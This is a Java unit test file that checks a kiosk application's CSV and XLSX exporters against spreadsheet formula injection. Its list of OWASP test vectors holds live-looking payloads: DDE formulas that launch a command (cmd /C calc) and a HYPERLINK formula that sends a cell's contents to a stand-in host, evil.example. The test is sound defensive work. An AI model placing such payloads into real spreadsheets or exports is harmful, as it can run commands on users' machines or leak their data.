package org.dropinkiosk.exports;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;

/**
 * OWASP's CSV injection vectors come back from an RFC 4180 parser as harmless text; in XLSX they are text cells
 * (never formulas) that read back exactly as written.
 */
class FormulaInjectionTest {

    /** From the OWASP CSV Injection page, and the characters it names. */
    static final List<String> DANGEROUS = List.of(
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "=10+20+cmd|' /C calc'!A0");

    static final List<String> HARMLESS = List.of("Sam", "Zoë, \"the tall one\"", "1+1", "a=b", "", "O'Neil\nline two");

    @Test
    void a_cell_starting_with_a_formula_character_gets_a_leading_apostrophe_and_others_stay_as_they_are() {
        DANGEROUS.forEach(v -> assertThat(SafeCell.of(v)).isEqualTo("'" + v));
        HARMLESS.forEach(v -> assertThat(SafeCell.of(v)).isEqualTo(v));
        assertThat(SafeCell.of(null)).isEmpty();
    }

    @Test
    void the_vectors_written_as_csv_read_back_with_an_rfc_4180_parser_as_neutralised_text() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (TableWriter csv = TableWriter.open(ExportFormat.CSV, out, "Test")) {
            csv.row("value");
            for (String v : DANGEROUS) {
                csv.row(v);
            }
            for (String v : HARMLESS) {
                csv.row(v);
            }
        }
        byte[] bytes = out.toByteArray();
        assertThat(bytes).startsWith((byte) 0xEF, (byte) 0xBB, (byte) 0xBF);
        String text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
        assertThat(text).contains("\r\n");
        List<CSVRecord> records;
        try (CSVParser parser = CSVParser.builder()
                .setReader(new StringReader(text))
                .setFormat(CSVFormat.RFC4180)
                .get()) {
            records = parser.getRecords();
        }
        assertThat(records).hasSize(1 + DANGEROUS.size() + HARMLESS.size());
        assertThat(records.getFirst().get(0)).isEqualTo("value");
        for (int i = 0; i < DANGEROUS.size(); i++) {
            String cell = records.get(1 + i).get(0);
            assertThat(cell).isEqualTo("'" + DANGEROUS.get(i));
            assertThat(cell.charAt(0)).isEqualTo('\'');
        }
        for (int i = 0; i < HARMLESS.size(); i++) {
            assertThat(records.get(1 + DANGEROUS.size() + i).get(0)).isEqualTo(HARMLESS.get(i));
        }
    }

    @Test
    void the_vectors_in_xlsx_are_text_cells_that_read_back_exactly_as_written_with_no_apostrophe() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        List<String> names = new ArrayList<>(List.of("-Jo", "=Sam", "+Ann", "@Lee"));
        names.addAll(DANGEROUS.stream().filter(v -> !v.startsWith("\r")).toList());
        try (TableWriter xlsx = TableWriter.open(ExportFormat.XLSX, out, "Test")) {
            for (String name : names) {
                xlsx.row(name, "Sam");
            }
        }
        List<Row> rows;
        try (ReadableWorkbook book = new ReadableWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            try (Stream<Row> stream = book.getFirstSheet().openStream()) {
                rows = stream.toList();
            }
        }
        assertThat(rows).hasSize(names.size());
        for (int i = 0; i < names.size(); i++) {
            Cell cell = rows.get(i).getCell(0);
            assertThat(cell.getType()).as(names.get(i)).isEqualTo(CellType.STRING);
            assertThat(cell.getFormula()).as(names.get(i)).isNull();
            assertThat(cell.getText()).isEqualTo(names.get(i));
        }
    }
}
